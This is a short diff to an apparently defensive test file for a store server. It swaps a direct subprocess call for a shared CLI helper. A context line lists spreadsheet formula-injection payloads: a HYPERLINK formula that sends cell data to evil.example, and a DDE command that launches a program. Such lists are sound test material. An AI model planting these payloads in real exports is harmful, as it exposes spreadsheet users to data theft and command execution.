@@ -4,11 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
-import subprocess
-import sys
 
 import requests
 
+from tests.support.cli import run_cli
 from tests.support.server import init_demo_server
 from tests.support.times import iso_ago
 
@@ -19,8 +18,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0
 
 
 def cli(server, *args) -> str:
-    out = subprocess.run([sys.executable, "-m", "store_server.cli", "--config", str(server.config_path), *args],
-                         capture_output=True, text=True, check=True)
+    out = run_cli("--config", str(server.config_path), *args, check=True)
     return out.stdout
 
 
